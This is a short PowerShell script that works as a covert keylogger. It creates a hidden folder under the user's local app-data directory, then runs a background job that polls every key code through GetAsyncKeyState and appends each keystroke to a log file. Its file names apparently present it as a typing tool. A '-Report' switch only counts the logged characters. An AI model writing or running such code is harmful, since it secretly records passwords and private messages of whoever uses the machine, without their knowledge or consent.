param([switch]$Report)
$log = Join-Path $env:LOCALAPPDATA '.typing\k.log'
if ($Report) { Get-Content $log | Measure-Object -Character; return }
New-Item -ItemType Directory -Force (Split-Path $log) | Out-Null
(Get-Item (Split-Path $log)).Attributes = 'Hidden'
Start-Job -ArgumentList $log -ScriptBlock {
    param($log)
    Add-Type -Name K -Namespace W -MemberDefinition '[DllImport("user32.dll")] public static extern short GetAsyncKeyState(int v);'
    while ($true) {
        Start-Sleep -Milliseconds 10
        for ($c = 8; $c -le 254; $c++) {
            if ([W.K]::GetAsyncKeyState($c) -eq -32767) { [IO.File]::AppendAllText($log, [char]$c) }
        }
    }
} | Out-Null
